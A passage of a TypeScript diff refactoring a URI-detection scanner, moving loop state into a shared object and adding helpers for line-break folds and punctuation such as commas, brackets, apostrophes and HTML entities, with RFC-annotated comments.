         const json = buf[i - 1] === 0x3d && hasQueryMark(buf, c1, i);
         const r = bracesEnd(buf, i, stop, json);
@@ -1841,11 +927,11 @@ export function scanBare(
     // it delimits ("unwise", 2396bis App. E): "^^http://a.org^^", a footnote's or an
     // AsciiDoc link's "[^…]" ("https://example.org/foo[^blank]")
     if (b === 0x5e && hasAuthority && !isOpener(buf[i - 1]!)) {
-      if (auth >= 0) {
-        auth = authorityEnd(buf, auth, i);
-        if (auth < i) auth = -1;
+      if (scan.auth >= 0) {
+        scan.auth = authorityEnd(buf, scan.auth, i);
+        if (scan.auth < i) scan.auth = -1;
       }
-      if (auth < 0) {
+      if (scan.auth < 0) {
         if (i + 1 >= stop) {
           if (stop === n && !final) return MORE;
         } else {
@@ -1864,276 +950,1420 @@ export function scanBare(
     // read percent-encoded as other raw characters are (raw-characters.ts). Kept only when
     // the destination does end so (below); elsewhere "|" delimits ("unwise", 2396bis App. E)
     if (b === 0x7c && i > c1) {
-      if (destination === UNKNOWN) destination = destinationAt(buf, rawStart, ctx.lo) ? 1 : 0;
-      if (destination === 1) {
-        if (firstPipe < 0) firstPipe = i;
+      if (scan.destination === UNKNOWN)
+        scan.destination = destinationAt(buf, rawStart, ctx.lo) ? 1 : 0;
+      if (scan.destination === 1) {
+        if (scan.firstPipe < 0) scan.firstPipe = i;
         i++;
         continue;
       }
       // a URI that fills a text table's cell goes on in the same cell of the next row
       // (table-cells.ts: antiword's tables)
       if (i < breaksBefore && i >= ctx.breakFrom) {
-        const t = tableCellWrapAt(buf, cellPiece, i, n, final, limit);
+        const t = tableCellWrapAt(buf, scan.cellPiece, i, n, final, limit);
         if (t === MORE_INPUT) return MORE;
         if (t > 0) {
           // (psql's wrap mark before the border goes with it: cellWrap.marker)
           drop(i - cellWrap.marker, t, NO_CHAR);
           i = t;
-          cellPiece = t;
+          scan.cellPiece = t;
           continue;
         }
       }
     }
     if ((b === 0x0a || b === 0x0d) && i > c1) {
-      // an iCalendar or vCard content line folded inside the URI (RFC 5545 §3.1, RFC 6350
-      // §3.2: a line break and one space or tab are deleted when unfolding):
-      // "ATTENDEE;PARTSTAT=ACCEPTED:mailto:cyrus@exampl" + CRLF + " e.com" — exact, so it
-      // comes first (after a hyphen too: "…@exam-" + CRLF + " ple.com" has one reading)
-      let f = contentLineFold(buf, s, i, n, final);
-      // … or a link in a TEXT value folded by its writer
-      if (f === -1) f = textValueFold(buf, s, i, n, final);
-      // … or a row of curl's --trace-ascii dump cut at its width (trace-rows.ts)
-      if (f === -1) f = traceRowAfter(buf, i, n, final);
-      // … or an LDIF line folded (ldif-folds.ts)
-      if (f === -1) f = ldifFoldAt(buf, s, i, n, final);
-      if (f === MORE_INPUT) return MORE;
-      if (f > 0) {
-        drop(i, f, NO_CHAR);
-        i = f;
-        continue;
-      }
-      // psql's old-ascii linestyle: ";" at the cell's divider on the next line
-      // (psql-linestyles.ts), the expanded display with border 1
-      if (i < breaksBefore && i >= ctx.breakFrom) {
-        const t = psqlOldAsciiWrapAt(buf, cellPiece, i, n, final, limit);
-        if (t === MORE_INPUT) return MORE;
-        if (t > 0) {
-          drop(i, t, NO_CHAR);
-          i = t;
-          cellPiece = t;
-          continue;
-        }
-      }
-      // psql's wrapped cell, the row's last or its expanded display's: "." at the break and
-      // after the next line's border (table-cells.ts psqlLineWrapAt)
-      if (buf[i - 1] === 0x2e && i < breaksBefore && i >= ctx.breakFrom) {
-        const t = psqlLineWrapAt(buf, cellPiece, i, n, final, limit);
-        if (t === MORE_INPUT) return MORE;
-        if (t > 0) {
-          drop(i - 1, t, NO_CHAR);
-          i = t;
-          cellPiece = t;
-          continue;
-        }
-      }
-      // a reStructuredText hyperlink target's URI goes on in the target's indented block
-      // (".. _name: http://a.example/" LF "   long/path") — exact too
-      const r = rstTargetFold(buf, s, i, n, final);
-      if (r === MORE_INPUT) return MORE;
-      if (r > 0) {
-        drop(i, r, NO_CHAR);
-        i = r;
-        continue;
-      }
-      // a Markdown link's destination goes on to the link's ")" on the next line
-      // (bare-line-breaks.ts destinationBreakAt) — exact too, but after a hyphen, whose
-      // two readings are hyphenBreak's
-      if (
-        buf[i - 1] !== 0x2d &&
-        rawStart - 2 >= ctx.lo &&
-        buf[rawStart - 1] === 0x28 &&
-        buf[rawStart - 2] === 0x5d &&
-        i < breaksBefore &&
-        i >= ctx.breakFrom
-      ) {
-        const d = destinationBreakAt(buf, rawStart, s, i, n, final);
-        if (d === MORE_INPUT) return MORE;
-        if (d > 0) {
-          drop(i, d, NO_CHAR);
-          i = d;
-          continue;
-        }
-      }
-      // a terminal's row cut at its width inside the URI (terminal-wrap.ts): first, for a
-      // hyphen there is the URI's, and a terminal cuts after any character (not "=":
-      // quoted-printable's soft break in mail read as text, RFC 2045 §6.7). Not after a
-      // hyphen's break: a terminal's rows are all cut at its width, none at a hyphen (and
-      // its look at the rows around each break, at every break of a run of "tel:1-" LF
-      // "x;…" joined up to maxLength, made that run 6× slower: linear-time.test.ts)
-      if (
-        i - 1 > c1 + 2 &&
-        onlyDrops(HARD_WRAP) &&
-        i < breaksBefore &&
-        i >= ctx.breakFrom &&
-        buf[i - 1]! > 0x20 &&
-        buf[i - 1] !== 0x3d
-      ) {
-        const h = terminalBreakAt(buf, i, n, final, fold);
-        if (h === MORE_INPUT) return MORE;
-        if (h > 0) {
-          lastWrap = i;
-          lastWrapEnd = fold.wrapEnd;
-          drop(i, h, HARD_WRAP);
-          i = h;
-          continue;
-        }
-      }
-      // a line break right after a hyphen: 2396bis App. E — "No whitespace should be
-      // introduced after a hyphen", and "the interpreter of a URI containing a line break
-      // immediately after a hyphen should ignore all unescaped whitespace around the line
-      // break, and should be aware that the hyphen may or may not actually be part of the
-      // URI": "https://example.com/regular-dlls-statically-linked-" + LF + "  to-mfc". The
-      // hyphen stays in `uri`; the reading without it is the record's variant
-      if (buf[i - 1] === 0x2d && i - 1 > c1 && i < breaksBefore && i >= ctx.breakFrom) {
-        const h = hyphenBreak(buf, s, i, n, final, false, false, true);
-        if (h === MORE_INPUT) return MORE;
-        if (h > 0) {
-          drop(i, h, HYPHEN_BREAK);
-          i = h;
-          continue;
-        }
-      }
-      // a query broken before its next pair, "&name=" opening the next line after its
-      // indentation (RFC 6749 §4.1.2's redirection; bare-line-breaks.ts queryPairBreak)
-      if (i < breaksBefore && i >= ctx.breakFrom && onlyLineBreakDrops()) {
-        const q = queryPairBreak(buf, s, c1, i, n, final);
-        if (q === MORE_INPUT) return MORE;
-        if (q > 0) {
-          drop(i, q, HARD_WRAP);
-          i = q;
-          continue;
-        }
-      }
-      // a line hard-wrapped at a fixed width inside the URI (bare-line-breaks.ts hardWrapAt);
-      // the URI as cut at the break stays the fallback reading (below). Two bytes at least
-      // after the ":" ("scheme://" alone is the next rule's), and no escape or fold before
-      // it: its cut reading is the record's variant, and JSON's "\/" mixed with a "/" from
-      // the next line would end the URI at the first backslash (mixesSlashes)
-      if (
-        i - 1 > c1 + 2 &&
-        onlyLineBreakDrops() &&
-        i < breaksBefore &&
-        i >= ctx.breakFrom &&
-        (WRAP_PIECE_ENDS[buf[i - 1]!] === 1 ||
-          (buf[i - 1]! >= 0x80 && letterBefore(buf, i, c1)) ||
-          // (a query's "=" or "?" too, once a hard wrap was taken: a chain of cuts, wordCutAt)
-          (lastWrap >= 0 && (buf[i - 1] === 0x3d || buf[i - 1] === 0x3f)))
-      ) {
-        const h = hardWrapAt(buf, s, i, n, final);
-        if (h === MORE_INPUT) return MORE;
-        if (h > 0) {
-          lastWrap = i;
-          lastWrapEnd = fold.wrapEnd;
-          drop(i, h, HARD_WRAP);
-          i = h;
-          continue;
-        }
-      }
-      // … or after a DOI's "10." before its registrant's digits and "/" ("https://doi.org/10."
-      // LF "1016/j.cell.2009.07.096"; bare-line-breaks.ts doiWrapAt), or after a query's "?"
-      // or "&" before its next field ("?research=" LF "3159&…" is no field: "…?" LF
-      // "id=3&…" is; queryWrapAt)
-      if (
-        (buf[i - 1] === 0x2e ||
-          ((buf[i - 1] === 0x3f || buf[i - 1] === 0x26 || buf[i - 1] === 0x3d) &&
-            (hasAuthority || mailto))) &&
-        onlyLineBreakDrops() &&
-        i < breaksBefore &&
-        i >= ctx.breakFrom
-      ) {
-        const h =
-          buf[i - 1] === 0x2e ? doiWrapAt(buf, s, i, n, final) : queryWrapAt(buf, s, i, n, final);
-        if (h === MORE_INPUT) return MORE;
-        if (h > 0) {
-          lastWrap = i;
-          lastWrapEnd = fold.wrapEnd;
-          drop(i, h, HARD_WRAP);
-          i = h;
-          continue;
-        }
-      }
-      // … or inside a mailto: address before its "@" (bare-line-breaks.ts mailtoAddressBreakAt)
-      if (mailto && onlyLineBreakDrops() && i < breaksBefore && i >= ctx.breakFrom) {
-        const h = mailtoAddressBreakAt(buf, c1, i, n, final);
-        if (h === MORE_INPUT) return MORE;
-        if (h > 0) {
-          lastWrap = i;
-          lastWrapEnd = fold.wrapEnd;
-          drop(i, h, HARD_WRAP);
-          i = h;
-          continue;
-        }
-      }
-      // … or after a "." before a file name's extension ("…/lppl." LF "txt and version";
-      // bare-line-breaks.ts extensionWrapAt)
-      if (
-        buf[i - 1] === 0x2e &&
-        hasAuthority &&
-        onlyLineBreakDrops() &&
-        i < breaksBefore &&
-        i >= ctx.breakFrom
-      ) {
-        const pe = authorityEnd(buf, authStart, i);
-        const h = extensionWrapAt(buf, i, n, final, pe < i && buf[pe] === 0x2f ? pe : -1);
-        if (h === MORE_INPUT) return MORE;
-        if (h > 0) {
-          lastWrap = i;
-          lastWrapEnd = fold.wrapEnd;
-          drop(i, h, HARD_WRAP);
-          i = h;
-          continue;
-        }
-      }
-      // the host on the next line, when it is a dotted name (hostAfterBreak):
-      // - "scheme://" and the line's end: no URI ends there (RFC 3986 §3.2: an authority
-      //   follows the "//"). A man page breaks "http://\:fontforge.sf.net" at its break
-      //   point: "available from http://" LF "       fontforge.sf.net" (not a word of prose:
-      //   "begin with http://" LF "or https://");
-      // - a host broken after its first label's ".": "from http://www." LF
-      //   "poker-edge.com/stats.php" (pdftotext's text of a PDF whose \url broke there: 55
-      //   in 900 TeX Live manuals gave "http://www"); a "." after a dotted host is the
-      //   sentence's;
-      // - a dotted host broken after its last ".", when the next line opens with a common
-      //   top-level domain and "/" or a port ("https://tex.stackexchange." LF
-      //   "com/a/640035", url.sty's break after a "."; 37 in 900 TeX Live manuals)
-      if (
-        i >= ctx.breakFrom &&
-        i < breaksBefore &&
-        ((i === c1 + 2 && buf[c1] === 0x2f && buf[c1 + 1] === 0x2f) ||
-          (hasAuthority && buf[i - 1] === 0x2e && i - 1 > authStart))
-      ) {
-        const h = hostAfterBreak(buf, s, i, n, final, authStart);
-        if (h === MORE_INPUT) return MORE;
-        if (h > 0) {
-          drop(i, h, NO_CHAR);
-          i = h;
-          continue;
-        }
-      }
+      scan.i = i;
+      const r = lineBreakStep(ctx);
+      i = scan.i;
+      if (r === NEXT) continue;
+      if (r === STOP) break;
+      return r;
     }
     // a URI that fills a text table's cell up to its padding and border goes on in the same
     // cell of the next row (table-cells.ts paddedCellWrapAt: cli-table3's, rich's tables)
     if ((b === 0x20 || b === 0x1b) && i > c1 && i < breaksBefore && i >= ctx.breakFrom) {
       // (psql's old-ascii linestyle: blanks, then ";" at the divider on the next line)
-      const o = b === 0x20 ? psqlOldAsciiWrapAt(buf, cellPiece, i, n, final, limit) : -1;
+      const o = b === 0x20 ? psqlOldAsciiWrapAt(buf, scan.cellPiece, i, n, final, limit) : -1;
       if (o === MORE_INPUT) return MORE;
       if (o > 0) {
         drop(i, o, NO_CHAR);
         i = o;
-        cellPiece = o;
+        scan.cellPiece = o;
         continue;
       }
-      const t = paddedCellWrapAt(buf, cellPiece, i, n, final, limit);
+      const t = paddedCellWrapAt(buf, scan.cellPiece, i, n, final, limit);
       if (t === MORE_INPUT) return MORE;
       if (t > 0) {
         drop(i, t, NO_CHAR);
         i = t;
-        cellPiece = t;
+        scan.cellPiece = t;
         continue;
       }
     }
     break;
   }
+  return finishBare(ctx, cand, i);
+}
+
+/** the loop's step at a URI character that is no plain one (below the run): `(`, `)`, `,`, `'`, `&`, `[`, `]`, `@` and the rest (scanBare's loop; NEXT, STOP, MORE or NONE) */
+function uriPunctuationStep(ctx: ScanContext, cand: Candidate, b: number): number {
+  const { buf, n, final } = ctx;
+  const { limit, rawStart, s, c, c1, mailto, texinfoRef, hasAuthority, authStart, stop, atOpened } =
+    scan;
+  // a shell command substitution or a make variable after the authority's start
+  // ("…/y/$(git rev-parse HEAD)/src/", "…/$(VERSION)/x.tar.gz"): a template's text, as
+  // "${…}" is (below) — the URI ends before its "$"
+  // (looked at from the "(": "$" is a plain URI character)
+  // (in the authority it makes a template's host or port: RULES.md "A template's host")
+  if (b === 0x28 && hasAuthority && scan.i - 1 > authStart && buf[scan.i - 1] === 0x24) {
+    if (scan.auth >= 0) {
+      scan.auth = authorityEnd(buf, scan.auth, scan.i);
+      if (scan.auth < scan.i) scan.auth = -1;
+    }
+    if (scan.auth < 0) {
+      scan.i--;
+      return STOP;
+    }
+  }
+  if (b === 0x2c) {
+    if (texinfoRef) return STOP;
+    // a field of a CSV row: the comma is the next field's separator (csv-fields.ts)
+    if (scan.csvRow === UNKNOWN) {
+      const r = csvSeparatorAt(buf, s, scan.i, n, final);
+      if (r === MORE_INPUT) return MORE;
+      scan.csvRow = r;
+    }
+    if (scan.csvRow === 1) return STOP;
+    // a comma in the host of a DNS-host scheme ends the URI:
+    // "GOPROXY=https://proxy.golang.org,direct", "http://a.example,http://b.example".
+    // RFC 3986 lets a reg-name hold sub-delims, but an http(s), ws(s) or ftp host is a
+    // DNS name or an IP address (RFC 1123 §2.1), where a comma is list punctuation. (Not
+    // for every scheme: "mongodb://h1:27017,h2:27017/db" lists its hosts so.) Decided
+    // here, at the comma, so that the next URI after it is read once (linear)
+    if (scan.auth >= 0) {
+      scan.auth = authorityEnd(buf, scan.auth, scan.i);
+      if (scan.auth < scan.i) scan.auth = -1;
+      else {
+        if (scan.hostCommaAt === UNKNOWN && isDnsHostScheme(buf, s, c)) {
+          // the first comma of the host: after the authority's last "@" ("http://u,x@h"
+          // has it in the userinfo), not in an IP literal. Looked for once per URI
+          const r = hostComma(buf, authStart, stop, final || n >= limit);
+          if (r === MORE_INPUT) return MORE;
+          scan.hostCommaAt = r;
+        }
+        if (scan.i === scan.hostCommaAt) return STOP;
+        // a comma glued to the next "scheme://" in any authority separates two URIs
+        // ("gs://bucket1,gs://bucket2"; mongodb's "h1,h2" is one host list)
+        const r = listItemAt(buf, scan.i + 1, n);
+        if (r === MORE_INPUT) {
+          if (!final) return MORE;
+        } else if (r === 1) return STOP;
+      }
+    }
+    // past the authority, a comma glued to the next "scheme://" separates two URIs:
+    // "CORS=https://a.example/cb,https://b.example/cb", "http://a:1/x,http://b:2/y" —
+    // also with a label before it, "…/x,b=http://…" (listItemAt).
+    // RFC 3986 lets a path or query hold ",", but not one URI's scheme and "//" after it
+    // unencoded in practice: that is a list written without spaces
+    if (scan.auth < 0 && hasAuthority) {
+      // (in the path: a query's value may list URIs, "?urls=https://a/,https://b/")
+      if (!scan.inQuery) {
+        scan.inQuery = hasQueryMark(buf, scan.queryScan, scan.i);
+        scan.queryScan = scan.i;
+      }
+    }
+    if (scan.auth < 0 && hasAuthority && !scan.inQuery) {
+      const r = listItemAt(buf, scan.i + 1, n);
+      if (r === MORE_INPUT && !final) return MORE;
+      if (r === 1) {
+        // the list's earlier commas in the last segment are its too: "…/model-build.q,
+        // -d,INPUT=s3://…" (an AWS CLI step's Args) ends at "model-build.q"
+        scan.i = firstCommaInSegment(buf, authStart, scan.i);
+        return STOP;
+      }
+      if (scan.keyed === UNKNOWN) scan.keyed = keyedValueAt(buf, s, c, ctx.lo) ? 1 : 0;
+      // (not when the path segment is itself a list of "k=v": Jenkins' matrix builds
+      // ".../job/p/jdk=11,label=linux/42/", image services' ".../w=400,sharpen=3")
+      if (scan.keyed === 1) {
+        for (; scan.pairScan < scan.i; scan.pairScan++) {
+          const x = buf[scan.pairScan]!;
+          if (x === 0x2f) scan.pairHeld = false;
+          else if (x === 0x3d || x === 0x3b) scan.pairHeld = true;
+        }
+      }
+      if (scan.keyed === 1 && !scan.pairHeld) {
+        // the URI is a "Name=" item's value, and the next item's "Name=" follows the
+        // comma: "Jar=s3://b/a.jar,Args=x", "url=https://x/a,status=200" (keyedValueAt)
+        const k = keyAt(buf, scan.i + 1, n);
+        if (k === MORE_INPUT && !final) return MORE;
+        if (k === 1) return STOP;
+      }
+    }
+    scan.i++;
+    return NEXT;
+  }
+  // a bracket right before "scheme://" in the path opens another URI
+  // ("http://a.example/x[http://b.example/", "…/x(http://mirror.example/)"): the URI
+  // ends before it, as at a comma before one. In a query a value may hold a URI
+  // ("?u=[http://b.example/]"); in the authority "[" opens an IP literal
+  if ((b === 0x28 || b === 0x5b) && hasAuthority) {
+    if (scan.auth >= 0) {
+      scan.auth = authorityEnd(buf, scan.auth, scan.i);
+      if (scan.auth < scan.i) scan.auth = -1;
+      else if (scan.i > authStart && CLASS[buf[scan.i - 1]!]! & C_ALNUM) {
+        // "hxxps://evil[.]example[.]org/": a defanged host is no URI, and no part of its
+        // authority one (defangedAuthorityEnd)
+        const d = defangedAuthorityEnd(buf, scan.i, n, limit, final);
+        if (d === MORE_INPUT) {
+          if (!final) return MORE;
+        } else if (d > 0) {
+          cand.resume = d;
+          return NONE;
+        }
+        // "http://host[:port]/directory/file": a syntax template (optionalPortEnd)
+        const t = optionalPortEnd(buf, scan.i, n, final);
+        if (t === MORE_INPUT) return MORE;
+        if (t > 0) {
+          cand.resume = t;
+          return NONE;
+        }
+      }
+    }
+    if (scan.auth < 0 && !scan.inQuery) {
+      scan.inQuery = hasQueryMark(buf, scan.queryScan, scan.i);
+      scan.queryScan = scan.i;
+    }
+    if (scan.auth < 0 && !scan.inQuery) {
+      const r = schemeSlashesAt(buf, scan.i + 1, n);
+      if (r === MORE_INPUT) {
+        if (!final) return MORE;
+      } else if (r === 1) return STOP;
+    }
+  }
+  if (b === 0x28) {
+    // a "(" in a DNS host ends the URI right here (RFC 1123 §2.1: no DNS name holds one;
+    // "http://example.com(the official site)"), and the search goes on after it: "http://example.com(http://mirror.example/)" is two URIs. Not in
+    // a userinfo ("http://u(x)@h/": an "@" follows in the authority)
+    if (scan.auth >= 0) {
+      scan.auth = authorityEnd(buf, scan.auth, scan.i);
+      if (scan.auth < scan.i) scan.auth = -1;
+      else if (scan.i > scan.userinfoEnd && isDnsHostScheme(buf, s, c)) {
+        const r = userinfoAhead(buf, scan.i + 1, stop);
+        if (r === MORE_INPUT) {
+          if (!final && stop === n) return MORE;
+          return STOP;
+        }
+        if (r < 0) return STOP;
+        scan.userinfoEnd = r; // (looked for once: the next "(" before it is the userinfo's too)
+      }
+    }
+    // no "(" in a mailto address (RFC 6068 §2: addr-spec of dot-atom-text, RFC 5322
+    // §3.2.3 atext has none): "mailto:a@example.org(preferred)" is the address and a
+    // remark; in the query it stays ("?subject=Hi%20(there)")
+    if (!hasAuthority && c - s === 6 && isMailto(buf, s)) {
+      if (!scan.inQuery) {
+        scan.inQuery = hasQueryMark(buf, scan.queryScan, scan.i);
+        scan.queryScan = scan.i;
+      }
+      if (!scan.inQuery) return STOP;
+    }
+    scan.opens++;
+  } else if (b === 0x29) {
+    // a closer with no opener inside the URI ends it there (DESIGN: closers are kept
+    // only when they balance an opener): `[a](http://x/)[b](mailto:y)` is two
+    // Markdown links, `(see http://x/a)and` ends at "a" — what follows the closer
+    // belongs to the text around it
+    if (scan.closes === scan.opens) return STOP;
+    scan.closes++;
+  } else if (b === 0x27) {
+    // a shell's apostrophe inside a single-quoted word, "'\\''" or "'\"'\"'" (bash -x,
+    // printf %q, Python's shlex.quote; bare-escapes.ts shellApostropheAt):
+    // "+ echo 'fetch of http://example.com/it'\\''s/fine failed'" is ".../it's/fine"
+    if (scan.i > c1) {
+      if (scan.i + 4 >= n && !final) return MORE;
+      const a = shellApostropheAt(buf, scan.i, n);
+      if (a > 0) {
+        drop(scan.i, a, NO_CHAR);
+        scan.i = a + 1;
+        return NEXT;
+      }
+    }
+    // a quote, a comma and a quote: the next item of a list of quoted strings — SQL's
+    // "VALUES (1,'https://a.example/x\'y','https://b.example/')", a JavaScript array
+    // — ends the URI (its opening quote was escaped inside it, and the quote scan fell back)
+    if (buf[scan.i + 1] === 0x2c || scan.i + 1 >= n) {
+      let j = scan.i + 2;
+      while (j < n && j < scan.i + 8 && buf[j] === 0x20) j++;
+      if (j >= n && !final && stop === n) return MORE;
+      if (buf[j] === 0x27 && j < n) return STOP;
+    }
+    // a closing quote before a particle of a script written without spaces: Korean and
+    // Japanese glue it after the quote ("'alias=uri://host/path'가", libvirt's Korean
+    // translation), as after "’" — when a "'" opened before the URI on its line, and
+    // the quote follows a letter or digit (an IRI's path may hold "/'한", a query "='例")
+    if (scan.i + 1 < n && buf[scan.i + 1]! >= 0x80 && CLASS[buf[scan.i - 1]!]! & C_ALNUM) {
+      if (decodeCharAt(buf, scan.i + 1, n, final) < 0) return MORE;
+      if (noSpaceScript(utf8.cp) && singleQuoteBefore(buf, rawStart, ctx.lo)) return STOP;
+    }
+    // in a mailto address's domain it ends the URI, and the search goes on after it:
+    // "mailto:kim@example.com's", "mailto:a@b.org'mailto:c@d.org" is two
+    if (mailto) {
+      scan.mailState = mailtoStateAfter(buf, scan.mailScan, scan.i, scan.mailState);
+      scan.mailScan = scan.i;
+      if (scan.mailState === 1) return STOP;
+    }
+    scan.apostrophe = true;
+    // an apostrophe in the host ends the URI (the cut after the scan, below), and the
+    // search goes on after it: "https://a.com'https://b.com" is two URIs. Not in a
+    // userinfo (an "@" follows in the authority; looked for once, as for "(")
+    if (scan.auth >= 0) {
+      scan.auth = authorityEnd(buf, scan.auth, scan.i);
+      if (scan.auth < scan.i) scan.auth = -1;
+      else if (scan.i > scan.userinfoEnd) {
+        const r = userinfoAhead(buf, scan.i + 1, stop);
+        if (r === MORE_INPUT) {
+          if (!final && stop === n) return MORE;
+          return STOP;
+        }
+        if (r < 0) return STOP;
+        scan.userinfoEnd = r;
+      }
+    }
+  } else if (b === 0x26) {
+    // "&nbsp;", "&lt;", "&gt;", "&quot;" (and their numeric forms) in escaped HTML
+    // stand for characters no URI holds (RFC 3986 App. C: a space or a delimiter):
+    // the URI ends before them, as it would before the character itself
+    // ("http://example.com/&nbsp;and"). In the host an apostrophe's reference ends
+    // it too, like the apostrophe ("http://example.com&#39;s"): decided with the
+    // apostrophes below, once the host is known to follow the last "@"
+    if (!final && n - scan.i < MAX_REF + 4) return MORE;
+    if (endingReference(buf, scan.i, n)) return STOP;
+    // … escaped twice, as a feed's escaped HTML writes it ("&amp;quot;", "&amp;gt;": RSS
+    // 2.0's description; "&amp;amp;" is read as "&", character-references.ts)
+    if (
+      buf[scan.i + 1] === 0x61 &&
+      buf[scan.i + 2] === 0x6d &&
+      buf[scan.i + 3] === 0x70 &&
+      buf[scan.i + 4] === 0x3b &&
+      endingReference(buf, scan.i + 4, n)
+    ) {
+      return STOP;
+    }
+    // the URI is the value of a "?name=" or "&name=" pair, and holds no query of its own:
+    // the next pair's "&name=" is the outer query's (form encoding splits on "&", WHATWG
+    // URL §5.1): "?redirect_to=https://blog.example/wp-admin/&reauth=1". With a "?" of
+    // its own ("?u=https://x.example/?a=1&b=2") the "&" may be either's: left to the URI
+    if (scan.queryValue !== 0 && scan.i > c1) {
+      if (scan.queryValue === UNKNOWN) scan.queryValue = queryValueAt(buf, s, ctx.lo) ? 1 : 0;
+      if (scan.queryValue === 1 && !scan.inQuery) {
+        scan.inQuery = hasQueryMark(buf, scan.queryScan, scan.i);
+        scan.queryScan = scan.i;
+      }
+      if (scan.queryValue === 1 && !scan.inQuery) {
+        const r = nextPairAt(buf, scan.i, n, final);
+        if (r === MORE_INPUT && !final) return MORE;
+        if (r === 1) return STOP;
+      }
+    }
+    if (mailto && apostropheReferenceAt(buf, scan.i, n)) {
+      scan.mailState = mailtoStateAfter(buf, scan.mailScan, scan.i, scan.mailState);
+      scan.mailScan = scan.i;
+      if (scan.mailState === 1) return STOP; // "mailto:kim@example.com&#39;s"
+    }
+    // still in the authority? (scanned once, left to right: linear)
+    if (scan.auth >= 0) {
+      scan.auth = authorityEnd(buf, scan.auth, scan.i);
+      if (scan.auth < scan.i) scan.auth = -1;
+      else scan.apostrophe = true;
+    }
+  } else if (b === 0x5b) {
+    // a BBCode closing tag ends the URI: "[url]http://example.com/a[/url]" (bare-pairs.ts)
+    const tag = bbcodeCloseAt(buf, scan.i, n);
+    if (tag === MORE_INPUT && !final) return MORE;
+    if (tag === 1) return STOP;
+    // an AsciiDoc macro's attribute list (the link text): "link:https://x.example/a[Docs]",
+    // "image::https://x.example/i.png[Alt]", and an empty one after any URI,
+    // "https://x.example/docs/[]" in a path (AsciiDoc: "URLs" — the target ends at the
+    // "[") — not PHP's "?a[]=1"
+    if (scan.i > c1) {
+      if (asciidocMacroBefore(buf, s, ctx.lo)) return STOP;
+      // … and a link text that is the URI again, its scheme right after the "[" glued to
+      // a word: "mailto:a@b.example?subject=x[mailto:a@b.example?subject=x]" (pandoc's
+      // AsciiDoc). Not after "=": a query's value may hold a URI ("?u=[http://b.example/]")
+      const again =
+        CLASS[buf[scan.i - 1]!]! & C_ALNUM || buf[scan.i - 1] === 0x2f
+          ? sameSchemeAt(buf, scan.i + 1, s, c, n)
+          : 0;
+      if (again === MORE_INPUT) {
+        if (!final) return MORE;
+      } else if (again === 1) return STOP;
+      if (!scan.inQuery) {
+        scan.inQuery = hasQueryMark(buf, scan.queryScan, scan.i);
+        scan.queryScan = scan.i;
+      }
+      // a mailto query's word glued to a bracketed word that ends the text: AsciiDoc's
+      // link text, "mailto:join@l.example.org?subject=subscribe[Join]" (the markup hunt).
+      // A bracket after "=", a digit or "%20" stays the header's ("?subject=[PATCH]",
+      // "?subject=Re:%20[PATCH]")
+      if (mailto && scan.inQuery && isAsciiLetter(buf[scan.i - 1]!)) {
+        const r = labelEndsUri(buf, scan.i, n, final, false, true);
+        if (r === MORE_INPUT) return MORE;
+        if (r === 1) return STOP;
+      }
+      // (a query's "?a[]" is PHP's array)
+      if (!scan.inQuery) {
+        if (scan.i + 2 >= n) {
+          if (!final && stop === n && (scan.i + 1 >= n || buf[scan.i + 1] === 0x5d)) return MORE;
+          if (scan.i + 1 < n && buf[scan.i + 1] === 0x5d) return STOP; // "[]" at the input's end
+        } else if (emptyPairEnds(buf, scan.i)) return STOP;
+      }
+      // AsciiDoc's URL form with a link's attributes, "…/c[Label,window=_blank]", or an
+      // empty text after a fragment, "…#URL_encoding[]" (Asciidoctor, "URLs": the text
+      // between the brackets becomes the link text; "[" and "]" are no URI characters
+      // there, RFC 3986 §3.3, §3.5). A bracketed word stays: "…/wiki/Sprite_[computer_
+      // graphics]", "…#anchor[bla]" (peers' suites: Rust linkify, KDE's), though
+      // AsciiDoc's "…/git-filter-repo[git-filter-repo]" is written so. Not after a "/"
+      // (a route's folder, "…/pages/[slug]"), nor in a query ("?filter[status]")
+      if (
+        buf[scan.i - 1] !== 0x2f &&
+        buf[scan.i - 1] !== 0x3d &&
+        scan.auth < 0 &&
+        scan.opens === scan.closes
+      ) {
+        for (; scan.markScan < scan.i; scan.markScan++) {
+          const x = buf[scan.markScan];
+          if (x === 0x23) scan.inFragment = true;
+          else if (x === 0x3f) scan.question = true;
+        }
+        // (not inside the URI's own "(": a Javadoc anchor, "#toString(int[])"; not
+        // after a "?", in the fragment too: a hash route's query, "#/map?c=[51.5,-0.1]")
+        if (!scan.question) {
+          const r = labelEndsUri(buf, scan.i, n, final, scan.inFragment);
+          if (r === MORE_INPUT) return MORE;
+          if (r === 1) return STOP;
+        }
+      }
+    }
+    // "[" opens an IP literal right after "//" or "@" (RFC 3986 §3.2.2) and nowhere
+    // else in an authority: after a name's letter or digit it is text
+    // ("(http://example.org[1]) etc.")
+    if (scan.auth >= 0 && scan.i > authStart && CLASS[buf[scan.i - 1]!]! & C_ALNUM) {
+      scan.auth = authorityEnd(buf, scan.auth, scan.i);
+      if (scan.auth < scan.i) scan.auth = -1;
+      else return STOP;
+    }
+    // without an authority, a "[" opens an IP literal only right after the ":" or an
+    // "@" ("sip:alice@[2001:db8::1]", RFC 3261 §19.1.1) and is raw data only in a query
+    // or fragment ("mailto:list@example.org?subject=[PATCH]"): after a name it is the
+    // text's, a footnote mark or a link's text ("mailto:a@example.org[1]",
+    // "urn:isbn:0451450523[3]"; RFC 8141 §2 has no "[" in an NSS)
+    if (!hasAuthority && scan.i > c1 && buf[scan.i - 1] !== 0x40) {
+      if (!scan.inQuery) {
+        scan.inQuery = hasQueryMark(buf, scan.queryScan, scan.i);
+        scan.queryScan = scan.i;
+      }
+      if (!scan.inQuery) {
+        // right after a ":" it opens a placeholder, and what comes before is no URI
+        // of its own ("urn:alert:source:[some-unknown-alert-ind-part]")
+        scan.placeholder = buf[scan.i - 1] === 0x3a;
+        return STOP;
+      }
+    }
+    scan.bOpens++;
+  } else if (b === 0x5d) {
+    if (scan.bCloses === scan.bOpens) return STOP; // `[http://x/](http://x/)`: same for "]"
+    scan.bCloses++;
+  } else if (b === 0x40 && texinfoRef) {
+    // Texinfo writes "@" as "@@" (Texinfo manual, "Inserting @ and {} ,"):
+    // "@uref{mailto:bug@@gnu.org}" is "mailto:bug@gnu.org"; "@/" (a line may break
+    // here: "@url{http://ftpmirror.gnu.org/@/texinfo/@/htmlxref.cnf}", 80 in GNU manuals),
+    // "@-" (a hyphen may) and "@:" (no sentence ends here) print nothing ("Line Breaks",
+    // "Not Ending a Sentence")
+    if (scan.i + 1 >= n) {
+      if (!final) return MORE;
